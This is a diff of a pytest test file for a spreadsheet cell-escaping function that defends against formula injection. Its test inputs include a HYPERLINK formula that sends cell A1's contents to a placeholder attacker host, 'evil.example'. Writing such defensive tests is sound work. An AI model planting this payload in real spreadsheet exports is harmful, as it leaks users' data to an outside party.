@@ -15,25 +15,40 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"hier")'
 
 @pytest.mark.parametrize(
     "text",
-    [FORMULA, "+49 241 5", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1", "＝1", "＋1", "－1", "＠1"],
+    [FORMULA, "+A1", "-1+A1", "+49;241", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1", "＝1", "＋1", "－1", "＠1"],
 )
 def test_nothing_that_a_spreadsheet_would_run_begins_a_cell(text):
     assert cell(text) == f"'{text}"
 
 
-@pytest.mark.parametrize("text", ["01067", "017612345678", "0241 5", "0241/5.5", "491761234567"])
-def test_a_text_of_digits_keeps_its_zeros_and_all_its_digits(text):
+@pytest.mark.parametrize(
+    "text",
+    [
+        "01067",
+        "52066",
+        "017612345678",
+        "0241 5",
+        "0241/5.5",
+        "491761234567",
+        "+49 241 5",
+        "(0241) 5",
+        "-1",
+        "2-3",
+        "01e5",
+    ],
+)
+def test_a_text_of_digits_stays_as_it_is(text):
     assert cell(text) == f'="{text}"'
 
 
-@pytest.mark.parametrize("text", ['0"&A1&"0', "01067\n", "٠١٢", "0", "52066", "0x1", "01e5"])
+@pytest.mark.parametrize("text", ['0"&A1&"0', "01067\n", "٠١٢", "0x1", "1e5e1", "()"])
 def test_nothing_but_such_digits_becomes_a_formula(text):
     assert cell(text) == text
 
 
 @pytest.mark.parametrize(
     ("value", "shown"),
-    [("a=b", "a=b"), ("0241-5", "0241-5"), (None, ""), (7, "7"), (491761234567, "491761234567"), ("", "")],
+    [("a=b", "a=b"), ("Weg 5", "Weg 5"), (None, ""), (7, "7"), (491761234567, "491761234567"), ("", "")],
 )
 def test_other_values_stay_as_they_are(value, shown):
     assert cell(value) == shown
